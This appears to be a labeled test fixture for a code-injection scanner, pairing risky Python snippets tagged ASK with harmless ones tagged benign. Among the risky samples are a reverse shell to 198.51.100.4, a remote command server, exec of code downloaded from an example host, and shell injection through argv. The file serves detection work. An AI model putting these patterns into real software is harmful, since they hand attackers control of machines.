#@ exec_stdin ASK t
import sys
exec(sys.stdin.read())
#@ eval_input ASK t
print(eval(input("> ")))
#@ compile_downloaded ASK v
import requests
code = requests.get("https://x.example.com/snippet").text
exec(compile(code, "remote", "exec"))
#@ system_env_hook ASK t
import os
os.system(os.environ.get("POST_HOOK", ""))
#@ argv_program_list ASK t
import subprocess, sys
subprocess.run(sys.argv[1:])
#@ argv_joined_shell ASK v
import subprocess, sys
subprocess.Popen(" ".join(sys.argv[1:]), shell=True)
#@ getattr_os_argv ASK t
import os, sys
getattr(os, sys.argv[1])(*sys.argv[2:])
#@ marshal_from_file ASK t
import marshal, types
code = marshal.loads(open("blob.bin", "rb").read())
types.FunctionType(code, {})()
#@ run_path_env ASK v
import os, runpy
runpy.run_path(os.environ["SCRIPT"])
#@ import_module_env ASK t
import importlib, os
importlib.import_module(os.environ["PLUGIN"]).main()
#@ osascript_argument ASK t
import subprocess, sys
script = sys.argv[1]
subprocess.run(["osascript", "-e", script])
#@ chr_decoded_file_exec ASK v
code = "".join(chr(int(x)) for x in open("c.txt").read().split())
exec(code)
#@ callable_class_socket ASK t
import os, socket

class Runner:
    def __call__(self, c):
        return os.popen(c).read()

s = socket.create_connection(("198.51.100.4", 4000))
while True:
    line = s.recv(1024).decode()
    s.sendall(Runner()(line).encode())
#@ node_e_argument ASK t
import subprocess, sys
subprocess.run(["node", "-e", sys.argv[2]])
#@ exec_env_base64 ASK v
import base64, os
exec(base64.b64decode(os.environ["BOOT"]))
#@ ast_compile_argument_file ASK t
import ast, sys
src = open(sys.argv[1]).read()
exec(compile(ast.parse(src), "<ast>", "exec"))
#@ pty_spawn_env_shell ASK t
import os, pty
pty.spawn(os.environ.get("LOGIN_SHELL", "/bin/sh"))
#@ program_path_from_argv ASK v
import subprocess, sys
vendor = sys.argv[1]
subprocess.call([f"/opt/{vendor}/bin/agent", "--run"])
#@ ctypes_system_env ASK t
import ctypes, os
ctypes.CDLL(None).system(os.environ["C"].encode())
#@ asyncio_shell_from_stream ASK t
import asyncio

async def handle(reader, writer):
    line = await reader.readline()
    proc = await asyncio.create_subprocess_shell(line.decode())
    await proc.wait()

async def main():
    server = await asyncio.start_server(handle, "0.0.0.0", 9000)
    await server.serve_forever()

asyncio.run(main())
#@ exec_home_rc ASK v
import os
exec(open(os.path.join(os.path.expanduser("~"), ".apprc")).read())
#@ decorator_registers_eval ASK t
import sys
HANDLERS = []

def handler(fn):
    HANDLERS.append(fn)
    return fn

@handler
def evaluate(expr):
    return eval(expr)

for h in HANDLERS:
    print(h(sys.argv[1]))
#@ literal_exec benign t
exec("x = 1\nprint(x)")
#@ git_status benign t
import subprocess
subprocess.run(["git", "status"], check=True)
#@ literal_eval_input benign v
import ast
print(ast.literal_eval(input("value: ")))
#@ import_json_by_name benign t
import importlib
json = importlib.import_module("json")
print(json.dumps({"a": 1}))
#@ handler_table benign t
import sys

def start():
    print("start")

def stop():
    print("stop")

handlers = {"start": start, "stop": stop}
handlers[sys.argv[1]]()
#@ eval_constant_expression benign v
print(eval("2 + 3"))
#@ pip_version benign t
import subprocess, sys
subprocess.run([sys.executable, "-m", "pip", "--version"])
#@ subprocess_argv_file_to_known_tool benign t
import subprocess, sys
subprocess.run(["wc", "-l", sys.argv[1]])
#@ format_code_then_print benign v
template = "def f():\n    return {}\n"
print(template.format(42))
